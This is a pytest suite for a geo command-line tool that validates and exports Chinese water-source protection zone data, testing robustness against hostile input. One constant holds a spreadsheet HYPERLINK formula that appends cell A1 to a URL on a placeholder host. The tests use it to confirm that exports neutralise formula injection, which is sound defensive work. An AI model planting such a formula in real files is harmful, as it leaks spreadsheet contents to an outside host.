"""Hostile input, round 2 (issue 10): injections, terminal escapes, outputs that destroy, tracebacks, bounded work."""

from __future__ import annotations

import csv
import subprocess
import sys
import time
import xml.etree.ElementTree as ET

import openpyxl
import pytest
from conftest import DATA, ROOT, WELL_HEADER, ZONE_HEADER, csv_text, well, write_approval, zone

from geo import InputError, read_approvals
from geo.cli import EXIT_INTERRUPTED, main

FORMULA = '=HYPERLINK("http://x/?"&A1,"点击")'


def run(*args, env=None, **kw):
    return subprocess.run([sys.executable, "-m", "geo", *args], capture_output=True, text=True, cwd=ROOT, env=env, **kw)


@pytest.fixture
def hostile(tmp_path):
    """An approval whose names carry a formula and a terminal escape."""
    return write_approval(tmp_path / "h", [well(name=FORMULA, no="\x1b[31m1#")], [zone()])


def test_no_formula_reaches_a_spreadsheet(tmp_path, hostile):
    out = tmp_path / "r.csv"
    assert run("export", str(hostile), "-o", str(out)).returncode == 0
    with out.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows[0]["水源名称"] == "'" + FORMULA
    xlsx = tmp_path / "r.xlsx"
    assert run("export", str(hostile), "-o", str(xlsx)).returncode == 0
    book = openpyxl.load_workbook(xlsx)
    cells = [
        c for row in book["保护区核对"].iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value
    ]
    assert cells and all(c.data_type == "s" and c.value.startswith("'=") for c in cells)
    wells = [c.value for row in book["水源井"].iter_rows() for c in row if isinstance(c.value, str) and "1#" in c.value]
    assert wells == ["\\x1b[31m1#"]  # the escape shown, not a control character that breaks the workbook


def test_control_characters_leave_kml_well_formed(tmp_path, hostile):
    out = tmp_path / "r.kml"
    assert run("export", str(hostile), "-o", str(out)).returncode == 0
    root = ET.parse(out).getroot()  # raises on an ill-formed file
    assert "\x1b" not in out.read_text(encoding="utf-8") and "\\x1b[31m1#" in out.read_text(encoding="utf-8")
    assert root.tag.endswith("kml")


def test_check_shows_terminal_escapes_escaped(hostile):
    done = run("check", str(hostile))
    assert done.returncode == 0 and "\x1b" not in done.stdout + done.stderr


@pytest.mark.parametrize("near", ["nan", "-100", "inf", "1e9", "ten"])
def test_near_must_be_a_distance(tmp_path, near):
    done = run("conflicts", str(DATA), "--projects", str(DATA / "projects"), "--near", near)
    assert done.returncode == 2 and "Traceback" not in done.stderr
    assert done.stderr.splitlines()[-1].endswith(f"参数 --near：应为 0 到 100000 之间的距离（米），而不是 '{near}'")
    done = run("conflicts", str(DATA), "--projects", str(DATA / "projects"), "--near", near, "--lang", "en")
    assert done.returncode == 2
    assert f"argument --near: expected a distance in metres from 0 to 100000, got '{near}'" in done.stderr


def test_outputs_that_would_destroy_what_was_not_named(tmp_path):
    folder = write_approval(tmp_path / "a", [well()], [zone()])
    wells_csv = folder / "wells.csv"
    before = wells_csv.read_bytes()
    cases = {
        str(wells_csv): f"-o {wells_csv}: expected a new output file, but {wells_csv} is one of the input tables",
        str(tmp_path): f"-o {tmp_path}: expected a file to write, found a folder",
        "/dev/null": "-o /dev/null: expected a file to write, found a device or other special file",
        "": "-o: expected a file or folder name, got ''",
    }
    for target, message in cases.items():
        done = run("zones", str(folder), "-o", target, "--lang", "en")
        assert done.returncode == 2, target
        assert done.stderr.strip() == f"error: {message}"
    assert wells_csv.read_bytes() == before


def test_export_never_replaces_a_conflicts_file_it_did_not_write(tmp_path):
    mine = tmp_path / "r-conflicts.csv"
    mine.write_text("我的表格\n", encoding="utf-8")
    done = run("export", str(DATA), "--projects", str(DATA / "projects"), "-o", str(tmp_path / "r.csv"))
    assert done.returncode == 2
    assert "已存在且不是导出生成的（表头不同）" in done.stderr
    assert mine.read_text(encoding="utf-8") == "我的表格\n" and not (tmp_path / "r.csv").exists()
    mine.unlink()
    assert run("export", str(DATA), "--projects", str(DATA / "projects"), "-o", str(tmp_path / "r.csv")).returncode == 0
    # A second export may replace what the first wrote.
    assert run("export", str(DATA), "--projects", str(DATA / "projects"), "-o", str(tmp_path / "r.csv")).returncode == 0


def test_ctrl_c_exits_130_without_a_traceback(monkeypatch, capsys):
    import geo.cli

    def interrupted(args):
        raise KeyboardInterrupt

    monkeypatch.setitem(geo.cli._COMMANDS, "check", interrupted)
    assert main(["check", str(DATA)]) == EXIT_INTERRUPTED
    assert capsys.readouterr().err.strip() == "中断：未写入任何文件。"


def test_a_broken_pipe_ends_quietly():
    done = subprocess.run(
        f"{sys.executable} -m geo check --json {DATA} | head -c 20",
        shell=True,
        capture_output=True,
        cwd=ROOT,
    )
    assert b"Traceback" not in done.stderr and b"BrokenPipe" not in done.stderr and len(done.stdout) == 20


def test_a_console_that_is_not_utf8(tmp_path):
    import os

    for encoding in ("gbk", "ascii"):
        done = subprocess.run(
            [sys.executable, "-m", "geo", "check", str(DATA)],
            capture_output=True,
            cwd=ROOT,
            env={**os.environ, "PYTHONIOENCODING": encoding},
        )
        assert done.returncode == 0 and b"Traceback" not in done.stderr, encoding
        text = done.stdout.decode(encoding)
        assert "26 " in text.splitlines()[-1]  # the summary line made it out
    assert "\\u" in text or "\\x" in text  # what ASCII cannot show is escaped


def test_a_rule_cell_of_60000_items_is_refused_at_once(tmp_path):
    folder = write_approval(tmp_path / "r", [well()], [zone(rule="1、" * 60_000)])
    start = time.perf_counter()
    with pytest.raises(InputError) as info:
        read_approvals(folder)
    assert time.perf_counter() - start < 10  # bounded, not quadratic: refused by length
    [problem] = [str(p) for p in info.value.problems]
    assert "expected a cell of at most 10000 characters, found 120000" in problem


def test_a_workbook_whose_one_cell_is_at_xfd1048576(tmp_path):
    folder = tmp_path / "x"
    folder.mkdir()
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(WELL_HEADER)
    sheet.append(well())
    sheet["XFD1048576"] = "x"
    book.save(folder / "wells.xlsx")
    (folder / "zones.csv").write_text(csv_text(ZONE_HEADER, [zone()]), encoding="utf-8")
    with pytest.raises(InputError) as info:
        read_approvals(folder)
    assert [str(p) for p in info.value.problems] == [
        f"{folder / 'wells.xlsx'}: expected a sheet of at most 2000000 rows and 200 columns, but sheet 'Sheet' reaches row 1048576, column 16384"
    ]


def test_twenty_thousand_wells_in_one_source_are_checked_without_an_n_by_n_matrix(tmp_path):
    rows = [
        well(no=f"{i}#", lon=f"{111.5 + (i % 200) * 1e-4:.6f}", lat=f"{38.3 + (i // 200) * 1e-4:.6f}", supply="")
        for i in range(20_000)
    ]
    rows.append(well(no="20000#", lon="112.4", lat="38.3", supply=""))  # 80 km away: a typing error
    folder = write_approval(tmp_path / "big", rows, [zone(area="", perimeter="")])
    start = time.perf_counter()
    with pytest.raises(InputError) as info:
        read_approvals(folder)
    assert time.perf_counter() - start < 60
    [problem] = [str(p) for p in info.value.problems]
    assert "expected a well within 10 km of another well of source T001" in problem and "row 20002" in problem


def test_data_that_used_to_break_the_page(tmp_path, browser):
    """A 批复文号 of __proto__, one equal to a level's label, MultiPoint and GeometryCollection projects."""
    import json

    from test_maps import Page

    from geo import build_zones, read_projects, wells_frame
    from geo.maps import build_maps
    from geo.validation import checked_zones

    a = write_approval(tmp_path / "a", [well(doc="__proto__")], [zone(doc="__proto__")])
    b = write_approval(
        tmp_path / "b", [well(doc="一级", code="T2", lon="111°43′11.58″")], [zone(doc="一级", code="T2")]
    )
    features = [
        {
            "type": "Feature",
            "properties": {"name": "多点"},
            "geometry": {"type": "MultiPoint", "coordinates": [[111.70, 38.39], [111.71, 38.39]]},
        },
        {
            "type": "Feature",
            "properties": {"name": "集合"},
            "geometry": {
                "type": "GeometryCollection",
                "geometries": [
                    {"type": "Point", "coordinates": [111.705, 38.392]},
                    {"type": "LineString", "coordinates": [[111.70, 38.391], [111.71, 38.391]]},
                ],
            },
        },
    ]
    projects_file = tmp_path / "p.geojson"
    projects_file.write_text(json.dumps({"type": "FeatureCollection", "features": features}), encoding="utf-8")
    approvals = read_approvals(a, b)
    zones = checked_zones(build_zones(approvals))
    build_maps(
        approvals, zones, wells_frame(approvals), tmp_path / "out", offline=True, projects=read_projects(projects_file)
    )
    page = Page(browser, tmp_path / "out" / "index.html", shot="hostile-round2.png")
    assert page.errors == []
    labels = page.page.locator(".leaflet-control-layers-overlays label").all_inner_texts()
    # The level's switch and the approval's are both there, and told apart.
    assert [t.strip() for t in labels if t.strip().endswith("一级")] == ["一级", "批复 一级"]
    assert "批复 __proto__" in [t.strip() for t in labels]
    assert page.count(".geo-project") >= 3  # two points and a point of the collection, as circles
    assert page.count("img.leaflet-marker-icon") == 0  # no default marker images (symbols and labels are divs)
    page.close()


def test_numbers_and_radii_beyond_reason_are_refused(tmp_path):
    folder = write_approval(
        tmp_path / "n",
        [well()],
        [zone(area="1" * 5000), zone(level="二级", rule="以取水井为中心，" + "9" * 400 + "m为半径的圆形区域")],
    )
    with pytest.raises(InputError) as info:
        read_approvals(folder)
    z = folder / "zones.csv"
    assert [str(p) for p in info.value.problems] == [
        f"{z} row 2, column 保护区面积（km2）: expected an area above zero such as 0.0028 (km²), of at most 30 characters, got '{'1' * 30}…'",
        f"{z} row 3, column 划定方案: expected a radius of at most 100 km, not 999999999999…m, got '以取水井为中心，{'9' * 400}m为半径的圆形区域'",
    ]


def test_a_local_engineering_crs_is_refused_in_one_line(tmp_path):
    import warnings
    import zipfile

    import geopandas as gpd
    import shapely

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        gpd.GeoDataFrame({"name": ["a"]}, geometry=[shapely.Point(500000, 4200000)]).to_file(tmp_path / "p.shp")
    (tmp_path / "p.prj").write_text('LOCAL_CS["Engineering",UNIT["metre",1]]', encoding="utf-8")
    archive = tmp_path / "p.zip"
    with zipfile.ZipFile(archive, "w") as z:
        for part in ("shp", "shx", "dbf", "prj"):
            z.write(tmp_path / f"p.{part}", f"p.{part}")
    done = run("projects", str(archive), "-o", str(tmp_path / "o.geojson"), "--lang", "en")
    assert done.returncode == 2 and "Traceback" not in done.stderr
    assert "expected a CRS that converts to CGCS2000 (EPSG:4490); layer 'p' is in 'Engineering'" in done.stderr


def test_zones_are_geojson_or_geoparquet_only(tmp_path):
    done = run("zones", str(DATA), "-o", str(tmp_path / "x.gpkg"), "--lang", "en")
    assert done.returncode == 2 and not (tmp_path / "x.gpkg").exists()
    assert done.stderr.strip() == (
        f"error: -o {tmp_path / 'x.gpkg'}: expected a .geojson or .parquet file (python -m geo export writes .gpkg, .kml, .csv, .xlsx)"
    )


def test_a_killed_exports_temporary_files_are_swept_by_the_next(tmp_path):
    stale = tmp_path / ".r.abc123.tmp.gpkg"  # as a killed export leaves it
    stale.write_bytes(b"half")
    mine = tmp_path / ".r.mine.gpkg"  # not a name the tool makes: left alone
    mine.write_bytes(b"mine")
    assert run("export", str(DATA), "-o", str(tmp_path / "r.gpkg")).returncode == 0
    assert not stale.exists() and mine.read_bytes() == b"mine"


def test_a_build_killed_at_any_moment_leaves_all_old_or_all_new_maps(tmp_path):
    """Killed by SIGKILL at a spread of moments, the rename step included: never a mix, never temps left."""
    import hashlib
    import signal

    source = write_approval(tmp_path / "src" / "a", [well()], [zone()])
    out = tmp_path / "maps"
    (tmp_path / "maps").mkdir()
    (out / "说明.txt").write_text("officer's own file", encoding="utf-8")  # not the build's: kept

    def build(**kw):
        return subprocess.run(
            [sys.executable, "-m", "geo", "build", str(source), "-o", str(out), *kw.get("extra", [])],
            cwd=ROOT,
            capture_output=True,
        )

    def state():
        return {p.name: hashlib.sha1(p.read_bytes()).hexdigest() for p in sorted(out.iterdir()) if p.is_file()}

    assert build().returncode == 0
    old = state()
    assert build(extra=["--lang", "en"]).returncode == 0
    new = state()
    assert old != new and old["说明.txt"] == new["说明.txt"]
    start = time.monotonic()
    assert build().returncode == 0
    took = time.monotonic() - start
    for step in range(12):
        extra = ["--lang", "en"] if step % 2 else []
        expected_before = state()
        process = subprocess.Popen(
            [sys.executable, "-m", "geo", "build", str(source), "-o", str(out), *extra],
            cwd=ROOT,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        time.sleep(took * (0.5 + step / 12))  # from import time to past the rename
        process.send_signal(signal.SIGKILL)
        process.wait()
        after = state()
        assert after in (old, new), step
        assert after == expected_before or after == (new if extra else old), step
    assert build().returncode == 0 and state() == old
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".maps.")]


def test_epsg_codes_that_cannot_be_right(tmp_path):
    parcel = tmp_path / "p.csv"
    parcel.write_text(
        "名称,点号,X,Y\nA,1,4153957.597,512342.575\nA,2,4153957.597,512352.575\nA,3,4153967.597,512352.575\nA,1,4153957.597,512342.575\n",
        encoding="utf-8",
    )
    for code, message in (
        (
            "4326",
            "error: --epsg: expected a projected CRS in metres such as 4546 (CGCS2000 / 3-degree Gauss-Kruger CM 111E), not EPSG:4326 (WGS 84), which is in degrees",
        ),
        ("99999", "error: --epsg: expected an EPSG code of a projected CRS such as 4546, got 99999"),
    ):
        done = run("projects", str(parcel), "-o", str(tmp_path / "p.geojson"), "--epsg", code, "--lang", "en")
        assert done.returncode == 2 and "Traceback" not in done.stderr
        assert done.stderr.startswith(message)


def test_a_corner_4000_km_from_its_well_is_an_error(tmp_path):
    folder = write_approval(
        tmp_path / "c",
        [well()],
        [
            zone(),
            zone(level="二级", rule="拐点连线", area="", perimeter="", corners="111.70 38.39; 111.71 38.39; 80.0 20.0"),
        ],
    )
    with pytest.raises(InputError) as info:
        read_approvals(folder)
    [problem] = [str(p) for p in info.value.problems]
    assert "expected corner points within 100 km of the source's wells; point 3 lies" in problem


def test_a_workbook_whose_dimension_claims_the_whole_sheet_reads_at_once(tmp_path):
    import re
    import zipfile

    folder = tmp_path / "d"
    folder.mkdir()
    plain = tmp_path / "plain.xlsx"
    book = openpyxl.Workbook()
    book.active.append(WELL_HEADER)
    book.active.append(well())
    book.save(plain)
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(folder / "wells.xlsx", "w", zipfile.ZIP_DEFLATED) as bomb:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = re.sub(rb'<dimension ref="[^"]*"\s*/>', b'<dimension ref="A1:XFD1048576"/>', data)
                assert b"XFD1048576" in data
            bomb.writestr(info, data)
    (folder / "zones.csv").write_text(csv_text(ZONE_HEADER, [zone()]), encoding="utf-8")
    start = time.perf_counter()
    [approval] = read_approvals(folder)
    assert time.perf_counter() - start < 10 and len(approval.wells) == 1


def test_a_nul_byte_anywhere_in_a_csv_is_refused(tmp_path):
    folder = write_approval(
        tmp_path / "n", [well()] * 1 + [well(code=f"T{i:03d}", lon="111°42′12″") for i in range(2, 80)], [zone()]
    )
    data = (folder / "wells.csv").read_bytes()
    assert len(data) > 4096
    (folder / "wells.csv").write_bytes(data[:5000] + b"\x00" + data[5000:])
    with pytest.raises(InputError) as info:
        read_approvals(folder)
    assert [str(p) for p in info.value.problems] == [
        f"{folder / 'wells.csv'}: expected a text file (CSV in UTF-8 or GBK), found binary data (a NUL byte at offset 5000)"
    ]


def test_two_builds_into_one_folder_take_turns(tmp_path):
    source = write_approval(tmp_path / "src" / "a", [well()], [zone()])
    out = tmp_path / "maps"
    runs = [
        subprocess.Popen(
            [sys.executable, "-m", "geo", "build", str(source), "-o", str(out), *extra],
            cwd=ROOT,
            stdout=subprocess.DEVNULL,
            stderr=subprocess.PIPE,
        )
        for extra in ([], ["--lang", "en"], [], ["--lang", "en"])
    ]
    errors = [r.communicate()[1] for r in runs]
    assert [r.returncode for r in runs] == [0, 0, 0, 0], errors
    names = sorted(p.name for p in out.iterdir())
    assert names == ["a.geojson", "a.html", "index.html", "zones.geojson"]
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".maps.")]


def test_an_output_where_no_file_can_be(tmp_path):
    blocker = tmp_path / "file"
    blocker.write_text("x", encoding="utf-8")
    done = run("zones", str(DATA), "-o", str(blocker / "z.geojson"), "--lang", "en")
    assert done.returncode == 2 and "Traceback" not in done.stderr
    assert done.stderr.strip() == f"error: -o {blocker / 'z.geojson'}: expected its folder {blocker} to be a folder"
    done = run("build", str(DATA), "-o", str(blocker), "--lang", "en")
    assert (
        done.returncode == 2
        and done.stderr.strip() == f"error: -o {blocker}: expected a folder for the maps, found a file"
    )


def test_a_cell_longer_than_the_csv_modules_limit_is_the_cells_problem_with_its_column(tmp_path):
    # 200,000 characters: csv's default limit (128 KiB) made it "expected well-formed CSV (field larger than …)".
    folder = write_approval(tmp_path / "r", [well()], [zone(rule="以取水井为中心" * 30_000)])
    with pytest.raises(InputError) as info:
        read_approvals(folder)
    assert [str(p) for p in info.value.problems] == [
        f"{folder / 'zones.csv'} row 2, column 划定方案: expected a cell of at most 10000 characters, found 210000, "
        f"got '{('以取水井为中心' * 6)[:40]}…'"
    ]


def test_two_csv_files_joined_keep_no_byte_order_mark_inside_a_cell(tmp_path):
    # `copy a.csv+b.csv c.csv` (or cat) leaves b's BOM at the start of its first row: its 批复文号 was another
    # approval's ("﻿测试〔2024〕1号"), and its source "not listed in the wells table".
    folder = write_approval(tmp_path / "j", [well(), well(code="T002")], [zone()])
    second = csv_text(ZONE_HEADER, [zone(code="T002")]).split("\r\n", 1)[1]
    with open(folder / "zones.csv", "ab") as handle:
        handle.write(b"\xef\xbb\xbf" + second.encode("utf-8"))
    [approval] = read_approvals(folder)
    assert [z.source_code for z in approval.zones] == ["T001", "T002"]


def test_zero_width_spaces_pasted_into_workbook_cells_are_dropped(tmp_path):
    folder = tmp_path / "z"
    folder.mkdir()
    book = openpyxl.Workbook()
    book.active.append(WELL_HEADER)
    book.active.append([cell.replace("测试", "测\u200b试") if i == 0 else cell for i, cell in enumerate(well())])
    book.save(folder / "wells.xlsx")
    (folder / "zones.csv").write_text(csv_text(ZONE_HEADER, [zone()]), encoding="utf-8")
    [approval] = read_approvals(folder)
    assert approval.doc_no == "测试〔2024〕1号"


@pytest.mark.parametrize("form", [[], ["--json"]])
def test_ctrl_c_after_geo_check_began_writing_says_its_output_is_incomplete(monkeypatch, capsys, form):
    """`geo check` writes each block as it is checked; interrupted after the first, what it printed is a part.

    The readable table is printed only once every block is in: interrupted before that, nothing was written."""
    import geo.registercheck

    whole = geo.registercheck.iter_checked_register

    def first_block_then_ctrl_c(*args, **kwargs):
        blocks = whole(*args, **{**kwargs, "block_zones": 1})
        yield next(blocks)
        raise KeyboardInterrupt

    monkeypatch.setattr(geo.registercheck, "iter_checked_register", first_block_then_ctrl_c)
    assert main(["check", str(DATA), *form]) == EXIT_INTERRUPTED
    out, err = capsys.readouterr()
    if form:
        assert out.startswith("[\n {\n") and err.strip() == "中断：已输出的结果不完整，未写入任何文件。"
    else:
        assert out == "" and err.strip() == "中断：未写入任何文件。"
    assert main(["--lang", "en", "check", str(DATA), *form]) == EXIT_INTERRUPTED
    expected = (
        "interrupted: the output so far is incomplete; no file was written."
        if form
        else "interrupted: nothing was written."
    )
    assert capsys.readouterr().err.strip() == expected
